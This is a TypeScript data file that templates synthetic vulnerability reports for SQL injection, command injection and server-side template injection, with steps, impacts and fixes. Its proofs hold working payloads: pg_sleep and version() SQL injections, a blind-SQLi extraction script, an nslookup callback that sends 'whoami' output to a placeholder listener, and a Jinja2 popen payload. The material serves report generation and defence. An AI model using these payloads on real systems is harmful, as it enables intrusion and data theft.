import type { VulnerabilityClass } from './vulnerability-class.ts'

const sqlInjection: VulnerabilityClass = {
  key: 'sql-injection',
  type: 'SQL injection',
  cwe: 89,
  weight: 6,
  surfaces: ['web', 'api', 'mobile'],
  shape: 'takeover',
  severities: [
    ['Critical', 5],
    ['High', 4],
    ['Medium', 1],
  ],
  places: [
    { path: '«collection»/export', parameter: 'sort' },
    { path: '«collection»/search', parameter: 'filter[«textField»]' },
    { path: '«api»/reports/summary', parameter: 'groupBy' },
    { method: 'POST', path: '«collection»/bulk', parameter: 'ids[]' },
    { path: '«api»/autocomplete', parameter: 'term' },
  ],
  titles: [
    'Time-based blind SQLi in «path» via `«parameter»`',
    'Error-based SQL injection at «host»«path»',
    'SQL injection in the `«parameter»` parameter of «path» gives the full database',
    'Blind SQL injection in `«parameter»` («path»), confirmed with pg_sleep',
    'SQL injection: the error message of «path» quotes the database',
    'Every table behind «host» can be read through `«parameter»` (SQLi)',
  ],
  summaries: [
    'The `«parameter»` parameter of `«path»` is put into the SQL statement without quoting. The answer takes exactly as long as I tell the database to sleep.',
    '`«path»` builds its query by joining strings. A quote in `«parameter»` breaks the statement, and the error that comes back shows the result of a sub-select.',
    'I can run my own SQL on the database of «target». The parameter is `«parameter»`, the session of any «customer» is enough.',
  ],
  steps: [
    [
      'Sign in to «host» as any «customer» (I used `«me»`).',
      'Use the page that calls `«path»`, so that the request shows up in the proxy.',
      'Put a single quote behind the value of `«parameter»`. The answer changes from 200 to 500; with two quotes it is 200 again.',
      'Replace the value with the sleep below. The answer takes a little more than «seconds» seconds; with `pg_sleep(0)` it takes 90 ms.',
      'Change the number: the delay follows it, ten tries out of ten.',
    ],
    [
      'Take a valid session cookie of «host».',
      'Send the request below.',
      'Read the version of the database in the error message.',
      'Replace `version()` by any sub-select that gives one value. I asked for names of tables and nothing else.',
    ],
    [
      'Put a session of your own into the script below.',
      'Run it. It asks yes-or-no questions and reads `current_user` one character after the other, which takes about a minute.',
      'Any other expression works in the same place.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The request that sleeps:',
        lang: 'http',
        code: `«method» «path»?«parameter»=id%29%2C%28SELECT%20pg_sleep%28«seconds»%29%29-- HTTP/2
Host: «host»
Cookie: «cookieName»=«session»
Accept: application/json`,
      },
      {
        say: 'Ten runs each, in seconds:',
        lang: 'text',
        code: `pg_sleep(0)        0.09 0.08 0.09 0.10 0.08 0.09 0.08 0.09 0.09 0.08
pg_sleep(«seconds»)        «seconds».1 «seconds».1 «seconds».0 «seconds».1 «seconds».1 «seconds».2 «seconds».1 «seconds».0 «seconds».1 «seconds».1`,
      },
    ],
    [
      {
        say: 'The database tells its version in the error:',
        lang: 'http',
        code: `«method» «path»?«parameter»=1%20AND%201%3DCAST%28version%28%29%20AS%20int%29 HTTP/1.1
Host: «host»
Cookie: «cookieName»=«session»

HTTP/1.1 500 Internal Server Error
Content-Type: application/json

{"error":"invalid input syntax for type integer: \\"PostgreSQL 15.6 on x86_64-pc-linux-gnu\\""}`,
      },
      {
        say: 'Tables that I listed, names only, no rows were read:',
        lang: 'text',
        code: `[*] retrieved: public.«segment»
[*] retrieved: public.users
[*] retrieved: public.user_credentials
[*] retrieved: public.audit_log
[*] «many2» tables in total`,
      },
    ],
    [
      {
        say: 'A script that reads `current_user` one bit at a time:',
        lang: 'python',
        code: `import requests, time

URL = "«url»"
COOKIES = {"«cookieName»": "«session»"}

def ask(condition):
    payload = f"(SELECT CASE WHEN ({condition}) THEN pg_sleep(2) ELSE pg_sleep(0) END)"
    start = time.monotonic()
    requests.get(URL, params={"«parameter»": payload}, cookies=COOKIES, timeout=20)
    return time.monotonic() - start > 1.8

name = ""
for position in range(1, 20):
    low, high = 32, 126
    while low < high:
        middle = (low + high) // 2
        if ask(f"ascii(substr(current_user,{position},1))>{middle}"):
            low = middle + 1
        else:
            high = middle
    if low == 32:
        break
    name += chr(low)
    print(name)   # -> app_rw`,
      },
    ],
  ],
  impacts: [
    'Everything in the database can be read: «secrets» of every «customer», and the password hashes in `user_credentials`. The database user is `app_rw`, so rows can be changed as well.',
    'A single «customer» account is enough to dump the whole database. With stacked queries an attacker can also write, for instance set the e-mail address of an administrator and reset the password.',
    'Full loss of confidentiality and integrity of the data behind «company». Under GDPR this would have to be notified.',
  ],
  fixes: [
    'Bind the value as a parameter. A column to sort by cannot be bound: map it through a fixed list of names.',
    'Use a prepared statement here like the neighbouring endpoints do, and take away the rights of the database user that it does not need.',
  ],
  notes: [
    'Reproduced on staging: 8.1 s with sleep(8), 80 ms without. The query is put together in the export builder, `«parameter»` goes straight into ORDER BY.',
    'Confirmed with a harmless `version()` cast. I did **not** run sqlmap on production. DBA asked to look for the pattern in the slow log of the last 30 days.',
  ],
}

const commandInjection: VulnerabilityClass = {
  key: 'command-injection',
  type: 'Command or code injection',
  cwe: 78,
  weight: 3,
  surfaces: ['web', 'api', 'device', 'infrastructure'],
  shape: 'takeover',
  severities: [
    ['Critical', 7],
    ['High', 3],
  ],
  places: [
    { method: 'POST', path: '«api»/diagnostics/ping', parameter: 'host' },
    { method: 'POST', path: '«collection»/import', parameter: 'filename' },
    { method: 'POST', path: '«api»/convert', parameter: 'format' },
    { method: 'POST', path: '/cgi-bin/network.cgi', parameter: 'ntp_server', on: ['device'] },
  ],
  titles: [
    'Blind command injection in «path», confirmed with DNS',
    'OS command injection via `«parameter»` in «path»',
    'Remote code execution on «host»: shell metacharacters in `«parameter»` (out of band)',
    'RCE through `«parameter»`: output of `id` in the answer of «path»',
  ],
  summaries: [
    '`«parameter»` of `«path»` is handed to a shell. A command in it runs on the server; the answer shows nothing, but a DNS lookup with the name of the user arrives at my listener.',
    'The value of `«parameter»` ends up in `sh -c`. Anything behind a semicolon is executed on «host», and its output is part of the answer.',
  ],
  steps: [
    [
      'Sign in as a «customer» and open the page that calls `«path»`.',
      'Catch the request and change `«parameter»` to the value below.',
      'Look at the listener: a query for the name of the system user arrives within a second.',
      'I ran `whoami` and nothing else.',
    ],
    [
      'Send the request below with a fresh session.',
      'Read `output` in the answer.',
      'I stopped after `id`. Nothing was written to the disk.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Request and what arrived at my listener:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/json

{"«parameter»":"x;nslookup $(whoami).«listener»"}`,
      },
      {
        say: 'Listener:',
        lang: 'text',
        code: `09:12:44 DNS A  www-data.«listener»  from «ip»
09:12:44 DNS AAAA www-data.«listener»  from «ip»
09:12:45 HTTP GET / Host: www-data.«listener»  User-Agent: curl/8.5.0`,
      },
    ],
    [
      {
        say: 'With curl:',
        lang: 'bash',
        code: `curl -s '«url»' \\
  -H 'Cookie: «cookieName»=«session»' \\
  --data-urlencode '«parameter»=127.0.0.1;id' | jq .output

"uid=0(root) gid=0(root)\\n"`,
      },
    ],
  ],
  impacts: [
    'Full control of the machine behind «host»: its environment holds credentials for the database, so all «many» of all «customer»s are reachable from there.',
    'An attacker gets a shell inside the network of «company». From the container I could resolve `«internalHost»`; I stopped there.',
  ],
  fixes: [
    'Do not go through a shell: call the program with a list of arguments, and check the value against what a host name may look like.',
    'Use a library in place of the external program.',
  ],
  notes: [
    'DNS callback reproduced from staging. The worker runs as www-data in its own container, but the service account can read the secrets mount. Treat as P1.',
    'Checked the process list: it is really `sh -c "convert …"`. Same wrapper is used in two more places, see the linked ticket.',
  ],
}

const templateInjection: VulnerabilityClass = {
  key: 'template-injection',
  type: 'Template injection',
  cwe: 1336,
  weight: 3,
  surfaces: ['web', 'api'],
  shape: 'takeover',
  severities: [
    ['Critical', 5],
    ['High', 4],
    ['Medium', 1],
  ],
  places: [
    { method: 'POST', path: '«api»/notifications/preview', parameter: 'body' },
    { method: 'PUT', path: '«api»/settings/mail-templates/«segment»', parameter: 'subject' },
    { method: 'POST', path: '«collection»/print', parameter: 'footer' },
  ],
  titles: [
    'Server-side template injection in the «one» e-mail template leads to RCE',
    'SSTI in «path»: `{{7*7}}` is rendered as 49',
    'From mail template preview to code execution (`«parameter»`)',
    'Template injection through `«parameter»` on «host»',
  ],
  summaries: [
    'The `«parameter»` of a mail template is evaluated on the server. `{{7*7}}` becomes `49` in the preview, and from there the template engine reaches the runtime.',
    'User input is used as the template itself and not as data for it. The preview at `«path»` evaluates expressions and gives back their result.',
  ],
  steps: [
    [
      'Sign in as a «customer» who may edit templates.',
      'Open *Settings → Mail templates → «One»*.',
      'Write `{{7*7}}` into the `«parameter»` and press *Preview*. The preview shows `49`.',
      'Use the payload below: the preview shows the output of `id`.',
    ],
    [
      'Send the request below with your own session.',
      'The answer holds `49`, which proves that the expression was evaluated on the server and not in the browser.',
      'I did not go further than reading the environment variable names.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Preview with an expression:',
        lang: 'http',
        code: `«method» «path» HTTP/2
Host: «host»
Cookie: «cookieName»=«session»
X-CSRF-Token: «csrf»
Content-Type: application/json

{"template":"«table»","«parameter»":"Hello {{7*7}} {{cycler.__init__.__globals__.os.popen('id').read()}}"}

HTTP/2 200
Content-Type: application/json

{"preview":"Hello 49 uid=1000(app) gid=1000(app) groups=1000(app)"}`,
      },
    ],
    [
      {
        say: 'The smallest proof:',
        lang: 'bash',
        code: `$ curl -s -X «method» '«url»' \\
    -H 'Cookie: «cookieName»=«session»' -H 'Content-Type: application/json' \\
    -d '{"«parameter»":"«handle» {{7*7}} {{ \\u0027a\\u0027.upper() }}"}'
{"preview":"«handle» 49 A"}`,
      },
    ],
  ],
  impacts: [
    'Code execution on the rendering service. It holds the key for signing mails in the name of «company» and sees «secrets» while rendering.',
    'Whoever may edit one template can read the secrets of the server and the data of all other tenants.',
  ],
  fixes: [
    'Render with a sandboxed engine that knows plain variables only, and never compile what users wrote.',
    'Replace placeholders with a fixed list of names.',
  ],
  notes: [
    'Works. The sandbox flag was lost when the mail service moved; was on until release 118. Asked platform team for the date.',
    '49 reproduced, popen blocked on staging by seccomp but not on production. Severity stays.',
  ],
}

export const injectionClasses: readonly VulnerabilityClass[] = [
  sqlInjection,
  commandInjection,
  templateInjection,
]
